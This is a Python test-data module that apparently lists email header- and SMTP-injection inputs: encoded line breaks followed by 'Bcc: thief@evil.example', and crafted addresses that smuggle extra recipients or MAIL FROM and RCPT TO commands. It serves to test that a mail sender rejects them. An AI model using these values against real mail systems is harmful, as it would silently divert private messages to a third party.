"""Words that would add a header or a recipient to a careless mail (promise I9)."""

_BREAKS = [
    *["\r\n", "\n", "\r", "\r\n ", "\n\t", "\v", "\f", "\x1c", "\x1e", "\x85"],
    *["\u2028", "\u2029", "\0", "%0a", "%0d%0a", "\\r\\n", "&#10;", "=0A", "\r\n\r\n"],
]

# After any name.
LINES = [f"Zoë{it}Bcc: thief@evil.example" for it in _BREAKS]

# In place of an address.
ADDRESSES = [
    *[f"a@b.example{it}Bcc: thief@evil.example" for it in _BREAKS],
    "a@b.example, thief@evil.example",
    "a@b.example; thief@evil.example",
    "a@b.example>, <thief@evil.example",
    "a@b.example thief@evil.example",
    "Zoë <thief@evil.example>, a@b.example",
    "<a@b.example> NOTIFY=NEVER",
    "a@b.example> SIZE=1\r\nRCPT TO:<thief@evil.example",
    '"a\r\nRCPT TO:<thief@evil.example>"@b.example',
    "=?utf-8?q?a=0ABcc:thief@evil.example?=@b.example",
    "a@b.example\r\n.\r\nMAIL FROM:<thief@evil.example>",
    *["@", "a@", "@b.example", "no address", "a@b..example", "a@[127.0.0.1", "<>"],
]
